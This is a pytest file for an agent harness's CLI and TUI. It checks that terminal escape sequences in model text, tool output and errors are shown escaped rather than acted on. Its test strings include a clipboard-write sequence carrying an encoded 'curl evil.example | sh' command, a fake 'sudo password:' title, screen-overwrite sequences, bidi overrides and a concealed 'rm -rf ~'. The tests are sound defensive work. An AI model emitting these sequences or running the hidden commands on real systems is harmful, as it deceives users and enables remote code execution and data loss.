"""Terminal control sequences in model text, tool output and server errors: `hitrate run`, the TUI
and the CLI's error line show them escaped (`\\x1b]52;...`) instead of sending them to the terminal,
which would write the clipboard (OSC 52), retitle the window (OSC 0), clear the screen (CSI 2J),
move the cursor over what was printed, act on C1 controls or reorder text (bidi overrides)."""

from __future__ import annotations

import io
import re
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "harness"))

from fake_llm_server import Failure, FakeLLMServer, Reply  # noqa: E402

from hitrate.harness import events as ev  # noqa: E402
from hitrate.harness.printer import TerminalPrinter  # noqa: E402

pytestmark = pytest.mark.timeout(120)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: put a command on the clipboard
TITLE = "\x1b]0;sudo password:\x1b\\"  # OSC 0 ended by ST
CLEAR = "\x1b[2J\x1b[H"  # erase the screen, cursor home
UP = "\x1b[3A\r"  # three lines up, back to the start: overwrite what was printed
C1 = "\x9b31m"  # CSI as a single C1 character
BIDI = "access\u202e nimda \u202c"  # right-to-left override
HOSTILE = f"ok{CLIPBOARD}{TITLE}{CLEAR}{UP}{C1}{BIDI}\tend\n"

# Anything a terminal acts on, besides newline and tab.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _assert_shown_not_obeyed(text: str) -> None:
    assert CONTROL.search(text) is None, repr(CONTROL.search(text))
    for visible in ("\\x1b]52;c;Y3Vy", "\\x07", "\\x1b]0;sudo password:", "\\x1b[2J", "\\x1b[3A\\x0d", "\\x9b31m", "\\u202e"):
        assert visible in text, visible
    assert "\tend\n" in text  # tabs and newlines are kept


@pytest.fixture
def fake_server():
    server = FakeLLMServer().start()
    yield server
    server.stop()


def test_model_text_and_tool_output_with_escape_sequences_are_shown_escaped_by_hitrate_run(fake_server, workspace, tmp_path) -> None:
    from hitrate.harness.cli import _register_all
    import typer

    (workspace / "evil.txt").write_text(HOSTILE)
    fake_server.push(Reply(text=HOSTILE, tool_calls=[("call_1", "read_file", '{"path": "evil.txt"}')]))
    fake_server.push(Reply(text="done" + CLEAR + "\n"))
    app = typer.Typer()
    _register_all(app)
    env = {"ANTHROPIC_API_KEY": "k", "ANTHROPIC_BASE_URL": fake_server.url, "NO_COLOR": "1"}
    result = CliRunner().invoke(app, ["run", "read evil.txt", "-m", "anthropic/claude-sonnet-5", "-w", str(workspace),
                                      "--db", str(tmp_path / "x.db"), "--permissions", "allow"], env=env)  # fmt: skip
    assert result.exit_code == 0, result.output
    _assert_shown_not_obeyed(result.stdout)
    assert "done\\x1b[2J" in result.stdout


def test_a_server_error_with_escape_sequences_is_shown_escaped(fake_server, workspace, tmp_path) -> None:
    from hitrate.harness.cli import _register_all
    import typer

    fake_server.push(Failure(400, {"type": "error", "error": {"type": "invalid_request_error", "message": HOSTILE}}))
    app = typer.Typer()
    _register_all(app)
    env = {"ANTHROPIC_API_KEY": "k", "ANTHROPIC_BASE_URL": fake_server.url, "NO_COLOR": "1"}
    result = CliRunner().invoke(app, ["run", "hi", "-m", "anthropic/claude-sonnet-5", "-w", str(workspace),
                                      "--db", str(tmp_path / "x.db")], env=env)  # fmt: skip
    assert result.exit_code != 0
    assert CONTROL.search(result.output) is None
    assert "\\x1b]52;c;" in result.output


def test_escape_sequences_split_across_streamed_pieces_are_still_shown(tmp_path) -> None:
    out = io.StringIO()
    printer = TerminalPrinter(out, colour=False)
    for piece in ["line one\r", "\nline two ", "\x1b", "]0;title\x07", " \r", "tail"]:
        printer(ev.TextDelta(session_id="s", step=1, text=piece))
    printer(ev.ToolCallStarted(session_id="s", step=1, call_id="c", name="shell", arguments='{"command": "echo \\u001b[2J"}'))
    text = out.getvalue()
    assert CONTROL.search(text) is None
    assert text.startswith("line one\nline two \\x1b]0;title\\x07 \\x0dtail\n")
    assert "echo \\\\u001b[2J" in text or "echo \\u001b[2J" in text  # JSON text as the model sent it


def test_the_tui_receives_model_text_tool_output_and_arguments_escaped() -> None:
    from hitrate.tui import messages as msg
    from hitrate.tui.bridge import EventBridge

    posted: list[object] = []
    bridge = EventBridge(posted.append, backend="anthropic", model="m")
    bridge(ev.TextDelta(session_id="s", step=1, text=HOSTILE))
    bridge(ev.ToolCallStarted(session_id="s", step=1, call_id="c", name="write_file",
                              arguments='{"path": "a.txt", "content": "x\\u001b]52;c;AAAA\\u0007"}'))  # fmt: skip
    bridge(ev.ToolCallFinished(session_id="s", step=1, call_id="c", name="shell", is_error=False, content=HOSTILE))
    text = "".join(m.text for m in posted if isinstance(m, msg.TextDelta))
    _assert_shown_not_obeyed(text)
    started = next(m for m in posted if isinstance(m, msg.ToolStarted))
    assert started.args["content"] == "x\\x1b]52;c;AAAA\\x07"
    finished = next(m for m in posted if isinstance(m, msg.ToolFinished))
    _assert_shown_not_obeyed(finished.content)


@pytest.mark.asyncio
async def test_the_approval_dialog_shows_a_commands_hidden_escapes_and_keeps_the_real_rule() -> None:
    from rich.console import Console
    from textual.app import App
    from textual.widgets import Static

    from hitrate.tui.dialogs import ApprovalScreen

    command = "ls\x1b[2K\rrm -rf ~ \u202e"
    screen = ApprovalScreen("shell", {"command": command})

    class Host(App[None]):
        def on_mount(self) -> None:
            self.push_screen(screen)

    async with Host().run_test() as pilot:
        await pilot.pause()
        console = Console(file=io.StringIO(), width=200, color_system=None)
        console.print(screen.query_one("#dialog-body", Static).content)
        shown = console.file.getvalue()
        assert "\\x1b[2K\\x0drm -rf ~ \\u202e" in shown
        assert CONTROL.search(shown) is None
    assert screen.rule.tool == "shell"


def test_a_resumed_session_shown_in_the_tui_has_its_escapes_shown_too() -> None:
    from hitrate.projection.transcript import (
        AssistantMessage, TextBlock, ToolCallBlock, ToolResultBlock, Transcript, UserMessage,
    )  # fmt: skip
    from hitrate.tui.harness_link import replay_items

    transcript = Transcript(messages=(
        UserMessage(content=(TextBlock(text=HOSTILE),)),
        AssistantMessage(content=(TextBlock(text=HOSTILE),
                                  ToolCallBlock(call_id="c", name="shell", arguments='{"command": "printf \\"\\u001b]52;c;AAAA\\u0007\\""}'))),
        UserMessage(content=(ToolResultBlock(call_id="c", content=HOSTILE),)),
    ))  # fmt: skip
    items = replay_items(transcript)
    assert [i.kind for i in items] == ["user", "assistant", "tool"]
    for item in items:
        _assert_shown_not_obeyed(item.text)
    assert items[2].args["command"] == 'printf "\\x1b]52;c;AAAA\\x07"'


def test_run_json_lines_keep_the_text_and_escape_what_json_leaves_raw(fake_server, workspace, tmp_path) -> None:
    """`hitrate run --json`: JSON escapes C0 itself, but leaves C1, DEL and bidi controls raw."""
    import json

    from hitrate.harness.cli import _register_all
    import typer

    fake_server.push(Reply(text=HOSTILE))
    app = typer.Typer()
    _register_all(app)
    env = {"ANTHROPIC_API_KEY": "k", "ANTHROPIC_BASE_URL": fake_server.url, "NO_COLOR": "1"}
    result = CliRunner().invoke(app, ["run", "hi", "-m", "anthropic/claude-sonnet-5", "-w", str(workspace), "--json",
                                      "--db", str(tmp_path / "x.db")], env=env)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert CONTROL.search(result.stdout) is None, repr(CONTROL.search(result.stdout))
    events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    # Escaped for the terminal, the same JSON values: the model's text arrives whole.
    [turn] = [e for e in events if e["type"] == "assistant_turn"]
    assert turn["text"] == HOSTILE
    assert "".join(e["text"] for e in events if e["type"] == "text_delta") == HOSTILE
